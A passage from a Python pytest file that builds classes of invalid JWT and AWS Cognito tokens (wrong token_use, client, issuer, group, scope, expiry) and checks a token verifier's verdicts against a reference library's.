def _cognito_access_as_id(rng, now):
    for i in range(4):
        yield f"#{i}", "cognito_id", cognito(cognito_access_claims(rng, now))


@token_class("cognito_token_use_missing", "Cognito id vs access token_use", "missing_claim",
             "CognitoJwtInvalidTokenUseError", "a Cognito token without token_use")
def _cognito_use_missing(rng, now):
    yield "access", "cognito_access", cognito(cognito_access_claims(rng, now, token_use=None))
    yield "id", "cognito_id", cognito(cognito_id_claims(rng, now, token_use=None))


@token_class("cognito_token_use_invalid", "Cognito id vs access token_use", "wrong_token_use",
             "CognitoJwtInvalidTokenUseError", "token_use neither access nor id (refresh, case variants, '', types)")
def _cognito_use_bad(rng, now):
    for use in ("refresh", "ID", "Access", "", 5, ["access"], "access "):
        yield f"{use!r}", "cognito_access", cognito(cognito_access_claims(rng, now, token_use=use))


@token_class("cognito_wrong_client", "Cognito id vs access token_use", "invalid_audience",
             "CognitoJwtInvalidClientIdError", "client_id (access) or aud (ID) names another app client")
def _cognito_client(rng, now):
    for client in ("other-client", "", CLIENT_ID.upper(), CLIENT_ID + " "):
        yield f"access:{client!r}", "cognito_access", cognito(cognito_access_claims(rng, now, client_id=client))
    for aud in ("other-client", CLIENT_ID[:-1]):
        yield f"id:{aud!r}", "cognito_id", cognito(cognito_id_claims(rng, now, aud=aud))


@token_class("cognito_client_id_missing", "Cognito id vs access token_use", "missing_claim",
             "CognitoJwtInvalidClientIdError", "an access token without client_id (aud instead), an ID token "
             "without aud")
def _cognito_client_missing(rng, now):
    yield "access-aud-instead", "cognito_access", cognito(cognito_access_claims(rng, now, client_id=None,
                                                                                aud=CLIENT_ID))
    yield "access-none", "cognito_access", cognito(cognito_access_claims(rng, now, client_id=None))
    yield "id-none", "cognito_id", cognito(cognito_id_claims(rng, now, aud=None))


@token_class("cognito_issuer_variant", "iss prefix, suffix, trailing slash", "unknown_issuer",
             "ParameterValidationError",
             "iss is not one of the pool's two spellings; aws-jwt-verify refuses it when choosing the issuer config")
def _cognito_iss(rng, now):
    for iss in (POOL_ISSUER + "/", GLOBAL_POOL_ISSUER + "/", POOL_ISSUER.replace(POOL_ID, "eu-west-1_Zz9Other"),
                POOL_ISSUER.replace("eu-west-1.", "us-east-1."), POOL_ISSUER.replace("https:", "http:"),
                POOL_ISSUER.replace(POOL_ID, POOL_ID.lower()), POOL_ISSUER + "x"):
        yield f"{iss!a}", "cognito_access", cognito(cognito_access_claims(rng, now, iss=iss))


@token_class("cognito_not_in_required_group", "Cognito id vs access token_use", "insufficient_group",
             "CognitoJwtInvalidGroupError", "cognito:groups lacks the required group admins, or is absent")
def _cognito_group_missing(rng, now):
    for groups in (["users"], ["Admins"], ["admins "], None):
        yield f"{groups}", "cognito_admins", cognito(cognito_access_claims(rng, now, **{"cognito:groups": groups}))


@token_class("cognito_expired", "Cognito id vs access token_use", "expired", "JwtExpiredError",
             "a Cognito token an hour past exp")
def _cognito_expired(rng, now):
    yield "access", "cognito_access", cognito(cognito_access_claims(rng, now, exp=now - 3600, iat=now - 7200,
                                                                    auth_time=now - 7200))
    yield "id", "cognito_id", cognito(cognito_id_claims(rng, now, exp=now - 3600, iat=now - 7200,
                                                        auth_time=now - 7200))


@token_class("scope_not_granted", BEYOND_THE_LIST, "insufficient_scope", "JwtInvalidScopeError",
             "no scope-token equals orders:read (near misses, other scopes, empty)")
def _scope_missing_word(rng, now):
    for scope in ("orders:write", "", "orders:readx", "ORDERS:READ", "orders:read,", "orders:read:all",
                  "xorders:read", "orders/read", "orders: read"):
        yield f"{scope!r}", "generic_scope", mint(any_key(rng), valid_claims(rng, now, scope=scope))


@token_class("scope_joined_by_other_whitespace", "scope of the wrong type", "insufficient_scope",
             "JwtInvalidScopeError",
             "scope-tokens are separated by SP only (RFC 6749 3.3): orders:read joined by a tab, line break or "
             "Unicode space is part of one larger (invalid) scope-token, not a scope of its own")
def _scope_other_whitespace(rng, now):
    for sep in ("\t", "\n", "\r", "\x0b", "\x0c", "\x1f", "\u00a0", "\u2003", "\u3000"):
        yield f"sep={sep!a}", "generic_scope", mint(any_key(rng), valid_claims(
            rng, now, scope=f"orders:write{sep}orders:read"))


@token_class("scope_missing", BEYOND_THE_LIST, "insufficient_scope", "JwtInvalidScopeError",
             "no scope claim where orders:read is required")
def _scope_absent(rng, now):
    for alg in rng.sample(ALGS, 2):
        yield alg, "generic_scope", mint(KEYS[alg], valid_claims(rng, now, scope=None))


@token_class("scope_wrong_type", "scope of the wrong type", "malformed", "JwtParseError",
             "scope is a number, boolean, object, or an array holding a non-string")
def _scope_type(rng, now):
    for scope in (5, True, {"orders:read": True}, [5], ["orders:read", 5], 1.5):
        yield f"{scope!r}", "generic_scope", mint(any_key(rng), valid_claims(rng, now, scope=scope))


@token_class("scope_null", "scope of the wrong type", "insufficient_scope", "JwtParseError",
             "scope null: no scopes to us; not a string to the reference")
def _scope_null(rng, now):
    yield "null", "generic_scope", raw_payload(KEYS["RS256"], with_member(valid_claims(rng, now, scope=None),
                                                                          '"scope":null'))


@token_class("scope_array_element_with_space", "scope of the wrong type", "insufficient_scope", "JwtParseError",
             "an array element holding two space-separated scopes is one (non-matching) scope to us, never split")
def _scope_array_space(rng, now):
    for scope in (["orders:write orders:read"], ["orders:read x"]):
        yield f"{scope}", "generic_scope", mint(any_key(rng), valid_claims(rng, now, scope=scope))


@token_class("sub_not_a_string", BEYOND_THE_LIST, "malformed", "JwtParseError", "sub is a number, array or object")
def _sub_type(rng, now):
    for sub in (7, ["user"], {"id": 1}):
        yield f"{sub!r}", "generic", mint(any_key(rng), valid_claims(rng, now, sub=sub))


# --- running both sides ----------------------------------------------------------------------------------------------


@dataclass(frozen=True, repr=False)
class Verdicts:
    corpus: list[CorpusToken]
    ours: list[tuple[str, object]]      # (verdict, Principal or None), in corpus order
    reference: list[dict]               # the reference's answers, in corpus order
    seconds: float                      # from minting the first token to the last answer

    def __repr__(self) -> str:
        return f"Verdicts({len(self.corpus)} tokens, {self.seconds:.1f} s)"


@pytest.fixture(scope="module")
def verdicts() -> Verdicts:
    reference_available()
    now = int(time.time())
    corpus = generate_corpus(SEED, now)
    ours = [our_verdict(t.setup, t.token) for t in corpus]
    specs = {name: SETUPS[name].reference for name in {t.setup for t in corpus}}
    with ReferenceVerifier() as reference:
        answers = reference.verify_batch(specs, [(t.setup, t.token) for t in corpus])
    return Verdicts(corpus, ours, answers, time.time() - now)


def reference_verdict(answer: dict) -> str:
    return ACCEPT if answer["valid"] else answer["error"]


def header_of(token: str) -> dict:
    part = token.split(".")[0]
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def test_the_table_of_differences_matches_the_classes():
    differing = {name for name, cls in CLASSES.items() if cls.differs}
    assert differing - INTENDED_DIFFERENCES.keys() == set(), "classes whose verdicts differ need a reason in the table"
    assert INTENDED_DIFFERENCES.keys() - differing == set(), "table entries for classes that agree (or do not exist)"


def test_the_corpus_covers_every_item_of_the_issue_and_every_algorithm(verdicts: Verdicts):
    corpus = verdicts.corpus
    assert len(corpus) >= MINIMUM_TOKENS
    per_class = Counter(t.token_class for t in corpus)
    assert [name for name in CLASSES if per_class[name] == 0] == [], "every class generates tokens"
    covered = {CLASSES[name].covers for name in per_class}
    assert [item for item in ISSUE_ITEMS if item not in covered] == []
    accepted_algs = {header_of(t.token)["alg"] for t in corpus if t.token_class in ("valid_access_token",
                                                                                    "pss_signatures")}
    assert accepted_algs == set(ALGS) | set(PSS_ALGS)
    kinds = {SETUPS[t.setup].reference["kind"] for t in corpus}
    assert kinds == {"jwt", "cognito"}
    assert len({t.label for t in corpus}) > 0.9 * len(corpus), "variants are named so a failure can be found again"


def test_every_verdict_follows_its_class_rule(verdicts: Verdicts):
    assert verdicts.seconds < MARGIN - 5, (
        f"minting and verifying took {verdicts.seconds:.1f} s; the time-edge classes hold only for {MARGIN} s")
    wrong = []
    for token, (ours, _), answer in zip(verdicts.corpus, verdicts.ours, verdicts.reference):
        theirs = reference_verdict(answer)
        if (ours, theirs) != (token.ours, token.reference):
            wrong.append(f"{token.label} ({token.setup}): expected ours={token.ours} reference={token.reference}, got "
                         f"ours={ours} reference={theirs} ({answer.get('message', '')[:120]})")
    assert wrong == [], f"{len(wrong)} verdicts break their class rule:\n" + "\n".join(wrong[:40])
    agree = sum((o == ACCEPT) == a["valid"] for (o, _), a in zip(verdicts.ours, verdicts.reference))
    differ = len(verdicts.corpus) - agree
    both_accept = sum(o == ACCEPT and a["valid"] for (o, _), a in zip(verdicts.ours, verdicts.reference))
    print(f"\nreference corpus: {len(verdicts.corpus)} tokens in {len(CLASSES)} classes; {agree} verdicts agree "
          f"({both_accept} both accept, {agree - both_accept} both refuse), {differ} intended differences in "
          f"{len(INTENDED_DIFFERENCES)} classes; {verdicts.seconds:.1f} s")


def test_disagreements_are_only_intended_differences(verdicts: Verdicts):
    unexplained = sorted({t.label for t, (ours, _), answer in zip(verdicts.corpus, verdicts.ours, verdicts.reference)
                          if (ours == ACCEPT) != answer["valid"] and t.token_class not in INTENDED_DIFFERENCES})
    assert unexplained == []


def expected_identity(setup_name: str, payload: dict) -> tuple:
    """(subject, scopes, groups) as the reference's payload states them, read by the reference's own rules: scope is
    one string split on spaces; groups are `groups` (generic) or `cognito:groups` (Cognito)."""
    scope = payload.get("scope")
    scopes = tuple(s for s in scope.split(" ") if s) if isinstance(scope, str) else ()
    groups = payload.get("cognito:groups" if SETUPS[setup_name].profile == "cognito" else "groups") or ()
    return payload.get("sub"), scopes, tuple(groups)


def test_where_both_accept_the_principal_reads_what_the_reference_read(verdicts: Verdicts):
    compared, wrong = 0, []
    for token, (ours, principal), answer in zip(verdicts.corpus, verdicts.ours, verdicts.reference):
        if ours != ACCEPT or not answer["valid"]:
            continue
        payload = json.loads(answer["payload_json"])
        compared += 1
        if (principal.subject, principal.scopes, principal.groups) != expected_identity(token.setup, payload):
            wrong.append(f"{token.label}: ours {(principal.subject, principal.scopes, principal.groups)} reference "
                         f"{expected_identity(token.setup, payload)}")
        elif dict(principal.claims) != payload:
            wrong.append(f"{token.label}: the claims differ")
    assert compared >= 300, "the corpus must hold enough tokens that both sides accept"
    assert wrong == [], "\n".join(wrong[:20])
